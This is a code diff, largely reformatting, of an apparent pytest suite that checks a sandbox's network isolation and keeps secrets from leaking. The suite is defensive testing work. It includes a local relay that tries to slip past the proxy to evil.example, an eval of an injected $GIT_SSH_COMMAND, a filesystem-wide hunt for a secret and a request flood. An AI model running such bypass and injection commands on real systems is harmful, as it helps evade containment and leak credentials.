@@ -18,9 +18,9 @@ from network_attacks import (
     ALLOW,
     ATTACKS,
     CLIENT,
+    PUBLIC,
     SECRET,
     SECRETS,
-    PUBLIC,
     Attack,
     NaiveProxy,
     Outcome,
@@ -38,7 +38,7 @@ pytestmark = [
     pytest.mark.isolations("docker", "bubblewrap"),
     pytest.mark.sandbox(network="allow", allow=ALLOW, secrets=SECRETS),
 ]
-PROBE = r'''
+PROBE = r"""
 import json, socket, sys
 host, port, udp = json.loads(sys.argv[1])
 def tcp(address, family=socket.AF_INET):
@@ -73,7 +73,7 @@ for name, way in ways.items():
     except OSError:
         found[name] = False
 print(json.dumps(found))
-'''
+"""
 
 
 @pytest.fixture(autouse=True)
@@ -88,7 +88,8 @@ def listening() -> Iterator[tuple[int, int]]:
         udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         udp.bind(("0.0.0.0", 0))
         answering = subprocess.Popen(
-            [sys.executable, "-c", _ANSWER, str(tcp.fileno()), str(udp.fileno())], pass_fds=(tcp.fileno(), udp.fileno())
+            [sys.executable, "-c", _ANSWER, str(tcp.fileno()), str(udp.fileno())],
+            pass_fds=(tcp.fileno(), udp.fileno()),
         )
         try:
             yield tcp.getsockname()[1], udp.getsockname()[1]
@@ -146,7 +147,9 @@ async def test_no_route_but_the_door(box: Any) -> None:
     with listening() as (port, udp):
         argv = ["python3", "-I", "-S", "-c", PROBE, json.dumps([host, port, udp])]
         here = json.loads(subprocess.run([sys.executable, *argv[1:]], capture_output=True, check=True).stdout)
-        assert all(here.values()), here  # the canary: each of these ways leads somewhere where there is a network
+        assert all(here.values()), (
+            here
+        )  # the canary: each of these ways leads somewhere where there is a network
         found = json.loads((await box.exec(argv)).stdout)
         assert not any(found.values()), found
         for command in (
@@ -160,9 +163,9 @@ async def test_no_route_but_the_door(box: Any) -> None:
             assert (await box.run(command)).exit_code, command
     assert box.protection.network == "allow"
     relay = await box.run(
-        "python3 -c '\nimport socket, threading\ns = socket.create_server((\"127.0.0.1\", 3129))\n"
+        'python3 -c \'\nimport socket, threading\ns = socket.create_server(("127.0.0.1", 3129))\n'
         "def one(a, b):\n while d := a.recv(4096): b.sendall(d)\n"
-        "c, _ = s.accept()\nd = socket.create_connection((\"127.0.0.1\", 3128))\n"
+        'c, _ = s.accept()\nd = socket.create_connection(("127.0.0.1", 3128))\n'
         "threading.Thread(target=one, args=(c, d), daemon=True).start()\none(d, c)\n' & sleep 0.5; "
         "curl -sS -x http://127.0.0.1:3129 http://evil.example/"
     )
@@ -190,7 +193,9 @@ async def test_usual_programs(box: Any, tmp_path: Path) -> None:
             writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body))
         elif "/simple/" in head:
             body = b"<a href='/six-99.0-py3-none-any.whl'>six-99.0-py3-none-any.whl</a>"
-            writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n" % len(body))
+            writer.write(
+                b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n" % len(body)
+            )
         elif head.startswith("GET /repository.git/"):
             body = b""
             writer.write(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")
@@ -215,7 +220,9 @@ async def test_usual_programs(box: Any, tmp_path: Path) -> None:
         ):
             done = await box.run(command)
             assert done.exit_code == 0, (command, done.text)
-        sshed = await box.run("$(echo true); sh -c \"$GIT_SSH_COMMAND -V\"; sh -c 'eval \"${GIT_SSH_COMMAND#ssh}\"' ; true")
+        sshed = await box.run(
+            '$(echo true); sh -c "$GIT_SSH_COMMAND -V"; sh -c \'eval "${GIT_SSH_COMMAND#ssh}"\' ; true'
+        )
         assert sshed.exit_code == 0
     assert f"Bearer {SECRET}" in heard[-1]
     assert (await box.run("echo $API_TOKEN")).text.strip() == placeholder("API_TOKEN")
@@ -240,6 +247,8 @@ import os, sys
 needle = sys.stdin.buffer.read()
 for top, folders, files in os.walk("/"):
     folders[:] = [one for one in folders if (top, one) not in (("/", "sys"), ("/", "proc"), ("/", "usr"))]
+    if not os.access(top, os.W_OK) and top not in ("/", "/etc", "/home"):
+        folders[:] = []
     for name in files:
         path = os.path.join(top, name)
         try:
@@ -287,7 +296,9 @@ async def test_a_secret_is_nowhere_but_at_its_host(box: Any, tmp_path: Path) -> 
     assert {name for name, data in places.items() if holds(data, SECRET)} == set()
     assert places["inside"] == b""
     assert in_folder(tmp_path, SECRET) == []
-    assert {one for one in in_processes(SECRET) if one[1] != os.getpid()} == {one for one in before if one[1] != os.getpid()}
+    assert {one for one in in_processes(SECRET) if one[1] != os.getpid()} == {
+        one for one in before if one[1] != os.getpid()
+    }
     canary = await box.exec(["python3", "-c", SEARCH], stdin=placeholder("API_TOKEN").encode())
     assert b"environ" in canary.stdout  # the search finds what is there
 
@@ -308,7 +319,9 @@ async def test_a_flood_and_a_dead_proxy(box: Any) -> None:
     async with Outside() as outside:
         box.network.internet = outside
         assert "sent" in (await box.exec(["python3", "-c", flood])).text
-        asked = "seq 200 | xargs -P 200 -I{} curl -sS -o /dev/null -w '%{http_code} ' http://allowed.example/{}"
+        asked = (
+            "seq 200 | xargs -P 200 -I{} curl -sS -o /dev/null -w '%{http_code} ' http://allowed.example/{}"
+        )
         assert (await box.run(asked)).text.split() == ["200"] * 200
         await box.network.close()
         left = await box.run("curl -sS -m 60 http://allowed.example/")
